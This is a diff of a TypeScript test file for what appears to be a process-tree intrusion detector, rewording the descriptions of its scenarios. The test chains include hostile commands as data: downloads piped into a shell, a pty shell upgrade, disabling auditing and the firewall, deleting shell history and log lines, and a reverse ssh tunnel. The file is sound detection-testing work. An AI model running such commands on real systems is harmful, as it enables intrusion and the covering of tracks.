@@ -142,7 +142,7 @@ export const REAL: readonly Scenario[] = [
     found: ['download_piped_to_shell'],
   },
   {
-    says: 'a daemon’s command loads with what is there, and pipes it into a shell of its own rights',
+    says: 'a daemon’s command downloads with curl or wget, and pipes the download into a shell',
     chain: [
       'agent',
       ['/bin/sh', '-c', '(BIN/curl -s http://127.0.0.1:9/i||BIN/wget http://127.0.0.1:9/i)|/usr/bin/env bash -s x'],
@@ -150,7 +150,7 @@ export const REAL: readonly Scenario[] = [
     found: ['download_piped_to_shell'],
   },
   {
-    says: 'a daemon’s command looks for a word in a download, and tries something else where it is not',
+    says: 'a daemon’s command searches a download for a word, and runs another command if it is missing',
     chain: ['agent', ['/bin/sh', '-c', 'BIN/curl -s http://127.0.0.1:9/_cat | grep shards || /bin/sh -c :']],
     found: [],
     spared: ['download_piped_to_shell'],
@@ -167,7 +167,7 @@ export const REAL: readonly Scenario[] = [
     found: ['decoded_text_piped_to_shell'],
   },
   {
-    says: 'a command takes a sum of what it decodes',
+    says: 'a command computes a checksum of decoded text',
     chain: [
       'agent',
       ['/bin/sh', '-c', 'echo Og== | base64 -d | sha256sum; echo Og== | base64 -d | python3 -m json.tool'],
@@ -192,7 +192,7 @@ export const REAL: readonly Scenario[] = [
     found: ['temporary_file_executed_under_service', 'interpreter_under_database'],
   },
   {
-    says: 'somebody’s build executes what it made in /tmp',
+    says: 'a user’s build executes its own program in /tmp',
     chain: ['make', 'TMP/conftest'],
     found: [],
     spared: ['temporary_file_executed_under_service'],
@@ -233,7 +233,7 @@ export const REAL: readonly Scenario[] = [
     spared: ['bare_shell_of_unusual_parent', 'interpreter_gives_bare_shell'],
   },
   {
-    says: 'python makes a dumb shell a comfortable one',
+    says: 'python makes a bare shell a full terminal',
     chain: [['python3', '-c', 'import pty; pty.spawn("/bin/sh")'], ['/bin/sh']],
     found: ['interpreter_gives_bare_shell'],
   },
@@ -249,7 +249,7 @@ export const REAL: readonly Scenario[] = [
     found: ['root_below_web_user'],
   },
   {
-    says: 'what runs in a container gets into the host’s namespace',
+    says: 'a process in a container enters the host’s namespace',
     chain: ['runc', 'app', 'tool'],
     found: ['container_process_in_host_namespace'],
   },
@@ -260,7 +260,7 @@ export const REAL: readonly Scenario[] = [
     spared: ['container_process_in_host_namespace'],
   },
   {
-    says: 'what runs in a container stays in its namespace',
+    says: 'a process in a container stays in its namespace',
     chain: ['newpid runc', 'app', 'held resident'],
     found: [],
     spared: ['container_process_in_host_namespace'],
@@ -283,7 +283,7 @@ export const REAL: readonly Scenario[] = [
     spared: ['privilege_change_by_service'],
   },
   {
-    says: 'a hook of a repository loads something',
+    says: 'a hook of a repository downloads something',
     chain: ['git', ['/bin/sh', '-c', 'BIN/curl http://127.0.0.1:9/; :', '.git/hooks/post-checkout']],
     found: ['git_hook_uses_network'],
   },
@@ -311,7 +311,7 @@ export const REAL: readonly Scenario[] = [
     spared: ['cron_changed_by_service'],
   },
   {
-    says: 'a database starts a unit by the script of old',
+    says: 'a database starts a unit by the old script',
     chain: ['redis-server', ['/bin/sh', '/usr/sbin/service', 'x-of-nobody', 'start']],
     found: ['unit_changed_by_service', 'interpreter_under_database'],
   },
@@ -367,12 +367,12 @@ export const REAL: readonly Scenario[] = [
     spared: ['credentials_read_by_service'],
   },
   {
-    says: 'a web shell goes on to another host',
+    says: 'a web shell connects to another host',
     chain: ['nginx', 'php-fpm', 'ssh root@127.0.0.1 id'],
     found: ['ssh_client_under_service', 'network_tool_under_web_server'],
   },
   {
-    says: 'an administrator goes on to another host',
+    says: 'an administrator connects to another host',
     chain: ['login', 'ssh root@127.0.0.1'],
     found: [],
     spared: ['ssh_client_under_service'],
@@ -413,12 +413,12 @@ export const REAL: readonly Scenario[] = [
   { says: 'a web server compiles', chain: ['nginx', 'php-fpm', 'gcc-12 x.c'], found: ['compiler_under_service'] },
   { says: 'a build compiles', chain: ['make', 'gcc-12 x.c'], found: [], spared: ['compiler_under_service'] },
   {
-    says: 'a Java server looks who it is',
+    says: 'a Java server runs id',
     chain: ['java -jar app.jar', ['/bin/sh', '-c', 'BIN/id; :']],
     found: ['tool_run_by_java_server'],
   },
   {
-    says: 'a build in Java looks who it is',
+    says: 'a build in Java runs id',
     chain: ['java org.gradle.wrapper.GradleWrapperMain', ['/bin/sh', '-c', 'BIN/id; :']],
     found: [],
     spared: ['tool_run_by_java_server'],
@@ -435,12 +435,12 @@ export const REAL: readonly Scenario[] = [
     spared: ['one_liner_under_service'],
   },
   {
-    says: 'a web server’s child looks into another process',
+    says: 'a web server’s child debugs another process',
     chain: ['nginx', 'php-fpm', 'gdb -p 1'],
     found: ['debugger_attached_by_service'],
   },
   {
-    says: 'a developer looks into a program',
+    says: 'a developer debugs a program',
     chain: ['login', 'gdb -p 1'],
     found: [],
     spared: ['debugger_attached_by_service'],
@@ -459,29 +459,29 @@ export const REAL: readonly Scenario[] = [
 ];
 
 const SSH: Chain = ['/usr/sbin/sshd -D', ['no-exec', 'sshd']];
-/** Somebody who came in from an address, at a shell. */
+/** A login from an address, with a shell. */
 const session = (uid: number): Chain => [...SSH, `setsid uid=${uid} tty=pts0 address=203.0.113.24 bash`];
 const CRON: Chain = ['/usr/sbin/cron -f'];
 
 /** As a log, below init. */
 export const LOGGED: readonly Scenario[] = [
   {
-    says: 'in a session by ssh, something in /tmp is executed, three shells deep',
+    says: 'in an ssh session, something in /tmp is executed, three shells deep',
     chain: [...session(1000), 'sh', 'sh', '/tmp/.x/tool'],
     found: ['temporary_file_executed_in_ssh_session'],
   },
   {
-    says: 'in a session by ssh, something in /tmp leaves a child in a session of its own',
+    says: 'in an ssh session, something in /tmp leaves a child in a session of its own',
     chain: [...session(1000), '/tmp/.x/tool', 'setsid no-exec tool'],
     found: ['temporary_file_executed_in_ssh_session'],
   },
   {
-    says: 'in a session by ssh, a script beside it is executed in /tmp',
+    says: 'in an ssh session, a script beside it is executed in /tmp',
     chain: [...session(1000), 'cd=/tmp/work python3 x.py'],
     found: ['temporary_file_executed_in_ssh_session'],
   },
   {
-    says: 'in a session by ssh, a file in /tmp is looked at',
+    says: 'in an ssh session, a file in /tmp is read',
     chain: [...session(1000), 'less /tmp/x'],
     found: [],
     spared: ['temporary_file_executed_in_ssh_session'],
@@ -498,7 +498,7 @@ export const LOGGED: readonly Scenario[] = [
     found: ['temporary_file_executed_by_cron'],
   },
   {
-    says: 'a job runs what the distribution has put there',
+    says: 'a job runs a script of the distribution',
     chain: [...CRON, ['sh', '-c', 'run-parts /etc/cron.daily'], 'run-parts /etc/cron.daily', 'sh /etc/cron.daily/dpkg'],
     found: [],
     spared: ['temporary_file_executed_by_cron'],
@@ -542,7 +542,7 @@ export const LOGGED: readonly Scenario[] = [
     spared: ['root_below_web_user'],
   },
   {
-    says: 'a maintainer script loads something',
+    says: 'a maintainer script downloads something',
     chain: [
       ...session(0),
       'apt-get install x',
@@ -553,18 +553,18 @@ export const LOGGED: readonly Scenario[] = [
     found: ['package_hook_uses_network'],
   },
   {
-    says: 'a hook of npm loads something',
+    says: 'a hook of npm downloads something',
     chain: [...session(1000), 'node /usr/bin/npm ci', ['sh', '-c', 'node x.js'], 'node x.js', 'wget http://192.0.2.1/'],
     found: ['package_hook_uses_network'],
   },
   {
-    says: 'npm starts a program that loads something',
+    says: 'npm starts a program that downloads something',
     chain: [...session(1000), 'node /usr/bin/npm start', ['sh', '-c', 'node x.js'], 'curl http://192.0.2.1/'],
     found: [],
     spared: ['package_hook_uses_network'],
   },
   {
-    says: 'apt loads packages',
+    says: 'apt downloads packages',
     chain: [...session(0), 'apt-get update', '/usr/lib/apt/methods/http'],
     found: [],
     spared: ['package_hook_uses_network'],
@@ -586,33 +586,33 @@ export const LOGGED: readonly Scenario[] = [
     spared: ['container_escape_tool'],
   },
   {
-    says: 'a container works',
+    says: 'a container runs its server',
     chain: ['/usr/bin/containerd-shim-runc-v2', 'setsid /app/server', ['sh', '-c', 'x'], 'ls /host'],
     found: [],
     spared: ['container_escape_tool'],
   },
   {
-    says: 'in a session by ssh, auditing is switched off',
+    says: 'in an ssh session, auditing is switched off',
     chain: [...session(1000), 'euid=0 sudo x', 'uid=0 auditctl -e 0'],
     found: ['defences_switched_off'],
   },
   {
-    says: 'in a session by ssh, the agent is stopped',
+    says: 'in an ssh session, the agent is stopped',
     chain: [...session(0), 'systemctl stop osqueryd'],
     found: ['defences_switched_off'],
   },
   {
-    says: 'in a session by ssh, auditing is stopped by the script that systemctl leaves it to',
+    says: 'in an ssh session, auditing is stopped by the script that systemctl calls',
     chain: [...session(0), '/usr/bin/bash /sbin/service auditd stop'],
     found: ['defences_switched_off'],
   },
   {
-    says: 'in a session by ssh, the firewall is switched off',
+    says: 'in an ssh session, the firewall is switched off',
     chain: [...session(0), '/usr/bin/python3.11 /usr/sbin/ufw disable'],
     found: ['defences_switched_off'],
   },
   {
-    says: 'in a session by ssh, somebody asks how the firewall is',
+    says: 'in an ssh session, a user reads the state of the firewall',
     chain: [...session(0), '/usr/bin/python3.11 /usr/sbin/ufw status', '/usr/bin/bash /sbin/service auditd status'],
     found: [],
     spared: ['defences_switched_off'],
@@ -630,38 +630,38 @@ export const LOGGED: readonly Scenario[] = [
     spared: ['defences_switched_off'],
   },
   {
-    says: 'in a session by ssh, the history goes',
+    says: 'in an ssh session, the history is removed',
     chain: [...session(1000), 'rm -f /home/x/.bash_history'],
     found: ['traces_removed'],
   },
   {
-    says: 'in a session by ssh, the history goes by a program of the user that is called logrotate',
+    says: 'in an ssh session, a user’s program called logrotate removes the history',
     chain: [...session(1000), 'logrotate /home/x/conf', 'rm -f /home/x/.bash_history'],
     found: ['traces_removed'],
   },
   {
-    says: 'in a session by ssh, a program of the user that is called apt switches auditing off',
+    says: 'in an ssh session, a user’s program called apt switches auditing off',
     chain: [...session(1000), 'apt install x', 'auditctl -e 0'],
     found: ['defences_switched_off'],
   },
   {
-    says: 'in a session by ssh, a program of the user that is called runc executes a file in memory',
+    says: 'in an ssh session, a user’s program called runc executes a file in memory',
     chain: [...session(1000), 'runc x', '/memfd:runc_cloned:/proc/self/exe'],
     found: ['memory_file_executed'],
   },
   {
-    says: 'in a session by ssh, lines are taken out of a log',
+    says: 'in an ssh session, lines are removed from a log',
     chain: [...session(1000), ['sed', '-i', '/203.0.113/d', '/var/log/auth.log']],
     found: ['traces_removed'],
   },
   {
-    says: 'in a session by ssh, lines of a log are looked at, and a copy is kept',
+    says: 'in an ssh session, lines of a log are read, and a copy is kept',
     chain: [...session(1000), ['sed', '-n', '1,9p', '/var/log/syslog'], 'cp -a /var/log/syslog /root'],
     found: [],
     spared: ['traces_removed'],
   },
   {
-    says: 'files for a day are tidied up at the boot',
+    says: 'temporary files are removed at the boot',
     chain: ['/usr/bin/systemd-tmpfiles --remove', 'rm /var/log/wtmp'],
     found: [],
     spared: ['traces_removed'],
@@ -678,13 +678,13 @@ export const LOGGED: readonly Scenario[] = [
     spared: ['traces_removed'],
   },
   {
-    says: 'in a session by ssh, a log is read',
+    says: 'in an ssh session, a log is read',
     chain: [...session(1000), 'tail /var/log/auth.log'],
     found: [],
     spared: ['traces_removed'],
   },
   {
-    says: 'from account to account to root',
+    says: 'a user changes account twice, to root',
     chain: [...session(1000), 'euid=0 su deploy', 'uid=1001 bash', 'euid=0 sudo -i', 'uid=0 bash'],
     found: ['root_by_several_changes_of_user'],
   },
@@ -695,18 +695,18 @@ export const LOGGED: readonly Scenario[] = [
     spared: ['root_by_several_changes_of_user'],
   },
   {
-    says: 'in a session by ssh, /tmp is offered to others',
+    says: 'in an ssh session, /tmp is offered to others',
     chain: [...session(1000), 'cd=/tmp/out python3 -m http.server 8000'],
     found: ['file_server_in_ssh_session'],
   },
   {
-    says: 'in a session by ssh, a developer looks at a page',
+    says: 'in an ssh session, a developer looks at a page',
     chain: [...session(1000), 'cd=/home/x/site python3 -m http.server 8000'],
     found: [],
     spared: ['file_server_in_ssh_session'],
   },
   {
-    says: 'in a session by ssh, a tunnel is opened',
+    says: 'in an ssh session, a tunnel is opened',
     chain: [...session(1000), 'ssh -f -N -R 2222:localhost:22 x@192.0.2.1'],
     found: ['tunnel'],
   },
@@ -717,7 +717,7 @@ export const LOGGED: readonly Scenario[] = [
   },
   { says: 'a unit is a tunnel', chain: ['/usr/bin/frpc -c /etc/frpc.ini'], found: [], spared: ['tunnel'] },
   {
-    says: 'in a session by ssh, somebody goes on',
+    says: 'in an ssh session, a user connects to another host',
     chain: [...session(1000), 'ssh x@192.0.2.1'],
     found: [],
     spared: ['tunnel'],
